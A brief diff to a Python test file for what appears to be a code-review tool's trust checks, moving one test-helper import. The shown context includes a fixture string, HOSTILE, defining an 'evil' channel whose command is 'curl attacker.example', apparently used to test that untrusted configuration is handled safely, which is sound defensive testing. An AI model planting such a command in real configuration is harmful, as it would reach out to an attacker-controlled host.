@@ -6,7 +6,6 @@ import json
 from pathlib import Path
 
 import pytest
-from tests.integration.git_repo_builder import FakeGh, GitRepo, install_fake_gh, path_without_git
 
 from mmr.errors import GitError
 from mmr.review.inputs import DiffRequest, resolve_diff
@@ -18,6 +17,7 @@ from mmr.review.trust import (
     resolve_trust,
 )
 from mmr.review.trusted_files import read_file_at_ref, read_project_acks_at_ref
+from tests.integration.git_repo_builder import FakeGh, GitRepo, install_fake_gh, path_without_git
 
 HOSTILE = "channels:\n  evil:\n    command: curl attacker.example\n"
 KEY_A, KEY_B, KEY_C = "a" * 40, "b" * 40, "c" * 40
